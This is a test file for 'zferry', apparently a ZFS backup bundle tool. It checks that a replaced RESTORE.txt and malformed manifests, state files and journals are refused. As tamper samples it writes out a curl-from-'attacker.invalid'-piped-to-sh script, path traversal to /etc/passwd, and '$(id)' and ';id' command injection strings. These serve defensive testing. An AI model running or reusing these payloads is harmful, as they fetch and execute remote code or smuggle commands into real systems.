/**
 * Bundle format 2 (RESTORE.txt covered like a volume) and the manifest's
 * bounds on every other document zferry reads: state files, receipts (also
 * inside a relay reply) and the export journal. Pure parsing on literal
 * data, plus small bundles on tmpfs for the checks that read files.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtemp, open, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { execa } from 'execa';
import { ZferryError } from '../../src/errors.js';
import {
  FORMAT_VERSION, checkBundleAtRest, finishBundle, parseManifest, restoreText, sha256sumsText, verifyArrived, verifyBundle, withRestore, type Manifest,
} from '../../src/bundle/index.js';
import { manifestText } from '../../src/bundle/manifest.js';
import { writeStream } from '../../src/pipeline/index.js';
import { MAX_STATE_BYTES, makeState, parseState, readState } from '../../src/state/receipt.js';
import { MAX_JOURNAL_BYTES, parseJournal, readJournal, type Journal } from '../../src/state/journal.js';
import { makeReply, parseReply } from '../../src/relay/reply.js';
import { describeBundles, packBundles } from '../../src/relay/pack.js';
import { unpackInto } from '../../src/relay/unpack.js';
import { bundleFolderName } from '../../src/commands/export.js';

const SHA = 'a'.repeat(64);
const TWO_TO_64 = '18446744073709551616';
const BUNDLE_ID = '0b7c2f0e-1d2a-4b3c-8d4e-5f6a7b8c9d0e';
const SOURCE = { host: 'src', pool: 'tank', root: 'tank/data', poolGuid: '42' };
const INVENTORY = {
  root: 'tank/data',
  datasets: [
    { path: '', type: 'filesystem' as const, guid: '7', snapshots: [{ name: 's1', guid: '1000', createtxg: '10', creation: 1700000000 }], bookmarks: [] },
  ],
};

/** A version-1 manifest as zferry 0.1.0 wrote it: no `restore`. */
function v1(): Manifest {
  return {
    format: 'zferry-bundle', formatVersion: 1, bundleId: BUNDLE_ID, createdAt: '2026-11-26T07:00:00.000Z', zferryVersion: '0.1.0',
    source: SOURCE,
    basis: { origin: 'empty', file: null, target: null, takenAt: null, inventory: null },
    inventory: INVENTORY,
    compression: { algorithm: 'zstd', level: 3 },
    streams: [
      { index: 1, dataset: '', type: 'filesystem', kind: 'full', from: null, to: { name: 's1', guid: '1000' }, intermediates: false,
        creates: [{ name: 's1', guid: '1000' }], force: false, sendFlags: [], rawBytes: 100, storedBytes: 20, rawSha256: SHA,
        volumes: [{ file: 'streams/0001-full.zst.000', bytes: 20, sha256: SHA }] },
    ],
  };
}

/** The same bundle in format 2, as finishBundle completes it. */
function v2(): Manifest {
  const draft: Manifest = { ...v1(), formatVersion: 2 };
  return withRestore(draft, restoreText(draft));
}

type Mutable = Record<string, any>;

function refusal(re: RegExp) {
  return (err: unknown) => {
    assert.ok(err instanceof ZferryError, `expected a ZferryError, got ${String(err)}`);
    assert.match(err.message, re);
    assert.ok(!err.message.includes('\n'), 'one line');
    return true;
  };
}

function parseEdited(base: Manifest, edit: (m: Mutable) => void): Manifest {
  const m = structuredClone(base) as Mutable;
  edit(m);
  return parseManifest(JSON.stringify(m), '/b/manifest.json');
}

test('a format 2 manifest parses, with RESTORE.txt\'s size and sha256 just before the streams', () => {
  const m = parseManifest(manifestText(v2()), '/b/manifest.json');
  assert.equal(m.formatVersion, 2);
  const text = restoreText({ ...v1(), formatVersion: 2 });
  assert.deepEqual(m.restore, { file: 'RESTORE.txt', bytes: Buffer.byteLength(text), sha256: createHash('sha256').update(text).digest('hex') });
  assert.deepEqual(Object.keys(m).slice(-2), ['restore', 'streams']);
  assert.equal(FORMAT_VERSION, 2);
});

test('a format 1 manifest still parses as it is, without restore', () => {
  const m = parseManifest(manifestText(v1()), '/b/manifest.json');
  assert.equal(m.formatVersion, 1);
  assert.equal(m.restore, undefined);
});

test('restore is required in format 2 and refused in format 1, naming /restore', () => {
  assert.throws(() => parseEdited(v2(), (m) => { delete m.restore; }),
    refusal(/^\/b\/manifest\.json: \/restore is required in bundle format version 2/));
  assert.throws(() => parseEdited(v1(), (m) => { m.restore = v2().restore; }),
    refusal(/^\/b\/manifest\.json: \/restore is not part of bundle format version 1/));
});

test('restore may name only RESTORE.txt, with a bounded size and a sha256', () => {
  assert.throws(() => parseEdited(v2(), (m) => { m.restore.file = '../../etc/passwd'; }), refusal(/\/restore\/file must be equal to constant/));
  assert.throws(() => parseEdited(v2(), (m) => { m.restore.bytes = 2 ** 40; }), refusal(/\/restore\/bytes must be <= 67108864/));
  assert.throws(() => parseEdited(v2(), (m) => { m.restore.sha256 = 'x'; }), refusal(/\/restore\/sha256 must match pattern/));
  assert.throws(() => parseEdited(v2(), (m) => { m.restore.exec = 'sh'; }), refusal(/\/restore must NOT have additional properties \("exec"\)/));
});

test('an unknown format version is refused first, naming it and the versions this zferry reads', () => {
  for (const version of [3, 0, '2', null]) {
    assert.throws(() => parseEdited(v2(), (m) => { m.formatVersion = version; m.novelty = true; delete m.restore; }),
      refusal(new RegExp(`^/b/manifest\\.json: bundle format version ${JSON.stringify(JSON.stringify(version)).slice(1, -1)} is not supported by zferry \\S+ \\(supports 1, 2\\)$`)), String(version));
  }
});

test('RESTORE.txt\'s text never depends on the restore field that hashes it', () => {
  const m = v2();
  assert.equal(restoreText(m), restoreText({ ...m, restore: { file: 'RESTORE.txt', bytes: 1, sha256: 'f'.repeat(64) } } as Manifest));
  assert.deepEqual(withRestore(m, restoreText(m)), m);
});

test('SHA256SUMS gets RESTORE.txt\'s line after the volumes in format 2 only', () => {
  const m = v2();
  assert.equal(sha256sumsText(m), `${SHA}  streams/0001-full.zst.000\n${m.restore!.sha256}  RESTORE.txt\n`);
  assert.equal(sha256sumsText(v1()), `${SHA}  streams/0001-full.zst.000\n`);
});

/** A real bundle in `version`: one full stream of two volumes, finished as export finishes it. */
async function bundleOnDisk(version: 1 | 2): Promise<{ dir: string; m: Manifest }> {
  // Named as export names bundles: a relay spool takes no other name.
  const bundleId = crypto.randomUUID();
  const dir = join(await mkdtemp(join(tmpdir(), `zferry-format${version}-`)), bundleFolderName(SOURCE.root, bundleId, new Date()));
  const raw = Buffer.concat([randomBytes(96 * 1024), Buffer.alloc(64 * 1024, 5)]);
  const full = await writeStream(Readable.from([raw]), { dir, index: 1, kind: 'full', volumeSize: 64 * 1024, level: 1 });
  const base = v1();
  const m = await finishBundle(dir, { ...base, bundleId, formatVersion: version, streams: [{ ...base.streams[0], ...full }] });
  return { dir, m };
}

const EVIL = '#!/bin/sh\ncurl -s http://attacker.invalid/x | sh\n';

test('verifyBundle, verifyArrived and checkBundleAtRest refuse a format 2 bundle whose RESTORE.txt was replaced, naming RESTORE.txt', async () => {
  const { dir, m } = await bundleOnDisk(2);
  try {
    assert.equal((await verifyBundle(dir)).restoreCovered, true);
    const arrived = new Map(m.streams.flatMap((s) => s.volumes).map((v) => [v.file, { bytes: v.bytes, sha256: v.sha256 }]));
    assert.equal((await verifyArrived(dir, m, arrived)).restoreCovered, true);
    // Stock sha256sum -c covers it too.
    assert.match((await execa('sha256sum', ['-c', 'SHA256SUMS'], { cwd: dir })).stdout, /^RESTORE\.txt: OK$/m);

    await writeFile(join(dir, 'RESTORE.txt'), EVIL);
    await assert.rejects(verifyBundle(dir), refusal(/RESTORE\.txt: size is \d+ bytes, manifest\.json says \d+: not the RESTORE\.txt this bundle was exported with; do not run it$/));
    await assert.rejects(verifyArrived(dir, m, arrived), refusal(/RESTORE\.txt: size is/));
    await assert.rejects(checkBundleAtRest(dir, m), refusal(/RESTORE\.txt: size is/));
    // Same length, other bytes: the sha256 catches it.
    const original = restoreText(m);
    await writeFile(join(dir, 'RESTORE.txt'), original.replace('set -euo pipefail', 'reboot           '));
    await assert.rejects(verifyBundle(dir), refusal(/RESTORE\.txt: sha256 is [0-9a-f]{64}, manifest\.json says [0-9a-f]{64}: not the RESTORE\.txt/));
    await rm(join(dir, 'RESTORE.txt'));
    await assert.rejects(verifyBundle(dir), refusal(/RESTORE\.txt: missing/));
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test('a format 1 bundle verifies as before, reporting RESTORE.txt as not covered', async () => {
  const { dir, m } = await bundleOnDisk(1);
  try {
    assert.equal(m.restore, undefined);
    assert.doesNotMatch(await readFile(join(dir, 'SHA256SUMS'), 'utf8'), /RESTORE/);
    await writeFile(join(dir, 'RESTORE.txt'), EVIL);
    const r = await verifyBundle(dir);
    assert.equal(r.restoreCovered, false);
    assert.equal(r.volumes, m.streams[0].volumes.length);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test('relay arrival refuses a format 2 bundle whose RESTORE.txt was replaced before the push; nothing enters the spool', async () => {
  const { dir } = await bundleOnDisk(2);
  const spool = await mkdtemp(join(tmpdir(), 'zferry-spool-'));
  try {
    await writeFile(join(dir, 'RESTORE.txt'), EVIL);
    const tarBytes = await buffer(packBundles(await describeBundles([dir])));
    await assert.rejects(unpackInto(spool, Readable.from([tarBytes]), { source: `${SOURCE.poolGuid}:${SOURCE.root}` }), refusal(/RESTORE\.txt: size is/));
    assert.deepEqual((await readdir(spool)).filter((n) => n !== '.incoming'), []);
  } finally {
    await rm(dir, { recursive: true, force: true });
    await rm(spool, { recursive: true, force: true });
  }
});

// ---- state files, receipts and the journal: the manifest's bounds ----

function stateText(edit: (s: Mutable) => void = () => undefined): string {
  const s = makeState('backup/data', structuredClone(INVENTORY), { ...SOURCE }, [BUNDLE_ID]) as unknown as Mutable;
  edit(s);
  return JSON.stringify(s);
}

test('a state file or receipt with a guid, createtxg or poolGuid of 2^64 is refused, naming the file and field', () => {
  assert.equal(parseState(stateText(), 'state.json').target, 'backup/data');
  const cases: Array<[(s: Mutable) => void, string]> = [
    [(s) => { s.inventory.datasets[0].guid = TWO_TO_64; }, '/inventory/datasets/0/guid'],
    [(s) => { s.inventory.datasets[0].snapshots[0].guid = TWO_TO_64; }, '/inventory/datasets/0/snapshots/0/guid'],
    [(s) => { s.inventory.datasets[0].snapshots[0].createtxg = TWO_TO_64; }, '/inventory/datasets/0/snapshots/0/createtxg'],
    [(s) => { s.source.poolGuid = TWO_TO_64; }, '/source/poolGuid'],
  ];
  for (const [edit, field] of cases) {
    assert.throws(() => parseState(stateText(edit), '/mnt/disk/state.json'),
      refusal(new RegExp(`^/mnt/disk/state\\.json: ${field} must be at most 18446744073709551615 \\(unsigned 64-bit\\), got ${TWO_TO_64}$`)), field);
  }
  // 2^64-1 itself is a valid guid.
  assert.equal(parseState(stateText((s) => { s.source.poolGuid = '18446744073709551615'; }), 'state.json').source?.poolGuid, '18446744073709551615');
});

test('a state file gets the manifest\'s name rules and array bounds', () => {
  const cases: Array<[(s: Mutable) => void, RegExp]> = [
    [(s) => { s.bundles = ['../../etc']; }, /\/bundles\/0 must match pattern/],
    [(s) => { s.source.host = 'a\nb'; }, /\/source\/host must match pattern/],
    [(s) => { s.zferryVersion = '1.0 $(id)'; }, /\/zferryVersion must match pattern/],
    [(s) => { s.inventory.datasets[0].snapshots[0].name = 's1;id'; }, /\/inventory\/datasets\/0\/snapshots\/0\/name/],
    [(s) => { s.bundles = Array(100001).fill(BUNDLE_ID); }, /\/bundles must NOT have more than 100000 items/],
  ];
  for (const [edit, re] of cases) assert.throws(() => parseState(stateText(edit), 'state.json'), refusal(re), String(re));
});

test('a receipt in a relay reply goes through the same bounds', () => {
  const receipt = JSON.parse(stateText((s) => { s.inventory.datasets[0].guid = TWO_TO_64; }));
  const text = JSON.stringify({ ...makeReply(null, null), ok: true, receipt });
  assert.throws(() => parseReply(text, '127.0.0.1:9091'), refusal(/^receipt in the reply from 127\.0\.0\.1:9091: \/inventory\/datasets\/0\/guid must be at most 18446744073709551615/));
});

test('a state file larger than any zferry writes is refused before it is parsed', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'zferry-bigstate-'));
  try {
    const file = join(dir, 'state.json');
    const fh = await open(file, 'w');
    await fh.truncate(MAX_STATE_BYTES + 1); // sparse
    await fh.close();
    await assert.rejects(readState(file), refusal(/state\.json: larger than any state file zferry writes \(limit \d+ bytes\)$/));
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

function journal(edit: (j: Mutable) => void = () => undefined): string {
  const j: Journal = {
    format: 'zferry-journal', source: { ...SOURCE },
    entries: [{ bundleId: BUNDLE_ID, createdAt: '2026-11-26T07:00:00.000Z', bundle: '/mnt/disk/zferry-tank-x', after: null, projected: structuredClone(INVENTORY) }],
  };
  edit(j as unknown as Mutable);
  return JSON.stringify(j);
}

test('an export journal with a guid of 2^64 is refused, naming the file and field', () => {
  assert.equal(parseJournal(journal(), 'j.json').entries.length, 1);
  assert.throws(() => parseJournal(journal((j) => { j.entries[0].projected.datasets[0].snapshots[0].guid = TWO_TO_64; }), '/var/lib/zferry/journal-42-tank.json'),
    refusal(/^\/var\/lib\/zferry\/journal-42-tank\.json: \/entries\/0\/projected\/datasets\/0\/snapshots\/0\/guid must be at most 18446744073709551615 .*move it away/));
  assert.throws(() => parseJournal(journal((j) => { j.source.poolGuid = TWO_TO_64; }), 'j.json'), refusal(/j\.json: \/source\/poolGuid must be at most/));
});

test('an export journal gets a schema: names, ids, unknown fields and sizes', () => {
  const cases: Array<[(j: Mutable) => void, RegExp]> = [
    [(j) => { j.format = 'zferry-state'; }, /\/format must be equal to constant/],
    [(j) => { j.entries = {}; }, /\/entries must be array/],
    [(j) => { j.entries[0].after = '$(id)'; }, /\/entries\/0\/after must match pattern/],
    [(j) => { j.entries[0].projected.datasets[0].path = '../x'; }, /\/entries\/0\/projected\/datasets\/0\/path must match pattern/],
    [(j) => { j.entries[0].exec = 'sh'; }, /\/entries\/0 must NOT have additional properties \("exec"\)/],
    [(j) => { j.entries = Array(1001).fill(j.entries[0]); }, /\/entries must NOT have more than 1000 items/],
  ];
  for (const [edit, re] of cases) assert.throws(() => parseJournal(journal(edit), 'j.json'), refusal(re), String(re));
});

test('readJournal: a missing journal is empty, a huge one is refused before it is read', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'zferry-journal-'));
  try {
    assert.deepEqual((await readJournal(join(dir, 'none.json'), SOURCE)).entries, []);
    const file = join(dir, 'journal.json');
    await writeFile(file, journal((j) => { j.entries[0].projected.datasets[0].guid = TWO_TO_64; }));
    await assert.rejects(readJournal(file, SOURCE), refusal(/journal\.json: \/entries\/0\/projected\/datasets\/0\/guid must be at most/));
    const fh = await open(file, 'w');
    await fh.truncate(MAX_JOURNAL_BYTES + 1);
    await fh.close();
    await assert.rejects(readJournal(file, SOURCE), refusal(/journal\.json: \d+ bytes is larger than any export journal zferry writes/));
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});
